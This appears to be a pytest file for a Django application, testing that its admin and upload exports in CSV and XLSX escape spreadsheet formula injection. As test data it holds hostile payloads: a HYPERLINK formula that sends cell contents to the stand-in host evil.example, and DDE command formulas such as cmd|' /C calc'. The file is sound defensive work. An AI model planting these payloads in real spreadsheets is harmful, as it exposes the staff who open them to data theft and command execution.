"""Every export the system produces escapes formulas: admin's django-import-export screens (CSV and
XLSX) and the files the core writes. A legal name typed as ``=HYPERLINK(...)`` by anyone who signs
up must reach state staff's spreadsheet as text."""

import csv
import io
import re

import pytest
from django.contrib import admin
from django.db import DatabaseError, models, transaction
from django.urls import reverse
from import_export.admin import ExportMixin
from openpyxl import load_workbook

from cvms.accounts.tests.factories import UserFactory
from cvms.core.exports import SafeCSV, SafeXLSX
from cvms.core.spreadsheet import safe_cell
from cvms.organizations.models import Organization
from enrollment.tests.factories import approved_agreement

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
EXPORTING_ADMINS = sorted(
    (f"{model._meta.app_label}.{model._meta.model_name}" for model, model_admin in admin.site._registry.items()
     if isinstance(model_admin, ExportMixin)))


def _poison(model) -> None:
    """Write the formula into every text column of every row, where the database takes it."""
    for field in model._meta.concrete_fields:
        if isinstance(field, models.CharField | models.TextField) and not field.choices:
            for pk in model.objects.values_list("pk", flat=True):
                try:
                    with transaction.atomic():
                        model.objects.filter(pk=pk).update(**{field.attname: ATTACK[:field.max_length or None]})
                except DatabaseError:
                    pass  # a constraint refuses it (a PIN's pattern, say): nobody can store it either


def _cells(content: bytes, fmt: str) -> list[str]:
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    sheet = load_workbook(io.BytesIO(content), read_only=True).worksheets[0]
    return [cell for row in sheet.iter_rows(values_only=True) for cell in row if isinstance(cell, str)]


def _help_desk_case(tenant):
    from helpdesk.services import case_open

    case_open(actor=tenant.manager, channel="provider", request_type="other", description="Help",
              provider_organization=tenant.organization.name)


def test_there_are_admin_exports_to_check():
    assert {"organizations.organization", "organizations.location", "enrollment.agreementversion"} <= set(
        EXPORTING_ADMINS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("label", EXPORTING_ADMINS)
def test_admin_export_never_carries_a_formula(client, tenant_a, state_reviewer, label, fmt):
    approved_agreement(tenant_a.org_admin, state_reviewer)
    _help_desk_case(tenant_a)
    model = next(m for m in admin.site._registry if f"{m._meta.app_label}.{m._meta.model_name}" == label)
    assert model.objects.exists()
    _poison(model)
    client.force_login(UserFactory(email="root@example.com", is_staff=True, is_superuser=True))
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    form = client.get(url).context["form"]
    formats = [f.__name__.lower() for f in admin.site._registry[model].get_export_formats()]
    data = {name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"}
    data.update(resource="0", format=str(formats.index(f"safe{fmt}")))
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    cells = _cells(b"".join(response) if response.streaming else response.content, fmt)
    assert f"'{ATTACK}" in cells
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "@", "\t", "\r"))]


def test_admin_offers_only_the_escaping_formats():
    for model_admin in admin.site._registry.values():
        if isinstance(model_admin, ExportMixin):
            assert model_admin.get_export_formats() == [SafeCSV, SafeXLSX]


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+1 919 555 0100", "'+1 919 555 0100"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("-5", "-5"), ("+3.5", "+3.5"), ("Smith", "Smith"),
    ("", ""), (None, ""),
])
def test_safe_cell_prefixes_what_a_spreadsheet_would_run(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize("value", [
    "\N{NO-BREAK SPACE}=1+1", "\N{EM SPACE}+A1", "\N{IDEOGRAPHIC SPACE}@SUM(A1)", "\N{NARROW NO-BREAK SPACE}-x",
    " \N{NO-BREAK SPACE} \N{THIN SPACE}=1", "\N{ZERO WIDTH SPACE}=1", "\N{ZERO WIDTH NO-BREAK SPACE}=1", "\v=1",
    "\N{FULLWIDTH EQUALS SIGN}cmd|' /C calc'!A0", "\N{FULLWIDTH PLUS SIGN}A1", "\N{FULLWIDTH HYPHEN-MINUS}x",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)", "\N{SMALL EQUALS SIGN}1", "\N{NO-BREAK SPACE}\N{FULLWIDTH EQUALS SIGN}1",
])
def test_safe_cell_sees_a_formula_behind_any_unicode_space_and_in_fullwidth_forms(value):
    assert safe_cell(value) == f"'{value}"


@pytest.mark.parametrize("value", ["\N{NO-BREAK SPACE}-5", "\N{FULLWIDTH HYPHEN-MINUS}5", "Ana\N{NO-BREAK SPACE}=",
                                   "\N{NO-BREAK SPACE}Smith"])
def test_safe_cell_leaves_numbers_and_plain_text_behind_unicode_spaces_alone(value):
    assert safe_cell(value) == value


SEMICOLON_ATTACK = "Coastal;=cmd|' /C calc'!A0"
_QUOTED_LINE = re.compile(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*')


def _every_field_quoted(content: bytes) -> list[str]:
    """The lines of ``content`` in which some field is not quoted (so a spreadsheet that splits on
    ``;`` would split it)."""
    text = content.decode("utf-8-sig")
    assert text.endswith("\r\n")
    return [line for line in text[:-2].split("\r\n") if not _QUOTED_LINE.fullmatch(line)]


def test_admin_csv_export_quotes_every_field_so_a_semicolon_cannot_start_a_cell(client, tenant_a):
    Organization.objects.filter(pk=tenant_a.organization.pk).update(name=SEMICOLON_ATTACK)
    client.force_login(UserFactory(email="root@example.com", is_staff=True, is_superuser=True))
    url = reverse("admin:organizations_organization_export")
    form = client.get(url).context["form"]
    data = {name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"}
    data.update(resource="0", format="0")
    response = client.post(url, data)
    content = b"".join(response) if response.streaming else response.content
    assert f'"{SEMICOLON_ATTACK}"'.encode() in content
    assert _every_field_quoted(content) == []


def test_failed_records_and_template_csvs_quote_every_field():
    from types import SimpleNamespace

    from cvms.uploads.files import failed_records_csv, template_csv

    error = SimpleNamespace(values=[SEMICOLON_ATTACK, "Lopez", "01/02/1990", ""], message="Line 2: bad")
    failed = failed_records_csv(["FirstName", "LastName", "Date of birth", "Email"], [error])
    assert f'"{SEMICOLON_ATTACK}"'.encode() in failed
    assert _every_field_quoted(failed) == []
    assert _every_field_quoted(template_csv()) == []


def test_xlsx_export_keeps_numbers_and_replaces_control_characters():
    import tablib

    dataset = tablib.Dataset(headers=["name", "count"])
    dataset.append(["bad\x07bell", -5])
    sheet = load_workbook(io.BytesIO(SafeXLSX().export_data(dataset)), read_only=True).worksheets[0]
    assert list(sheet.iter_rows(values_only=True))[1] == ("bad\N{REPLACEMENT CHARACTER}bell", -5)


def test_failed_records_workbook_holds_control_characters_and_formulas():
    from types import SimpleNamespace

    from cvms.uploads.files import failed_records_xlsx

    error = SimpleNamespace(values=["Ana\x07", "=1+1", "01/02/1990", "a@example.com"], message="Line 2: bad")
    content = failed_records_xlsx(["FirstName", "LastName", "Date of birth", "Email"], [error])
    rows = list(load_workbook(io.BytesIO(content), read_only=True).worksheets[0].iter_rows(values_only=True))
    assert rows[1] == ("Ana\N{REPLACEMENT CHARACTER}", "'=1+1", "01/02/1990", "a@example.com", "Line 2: bad")
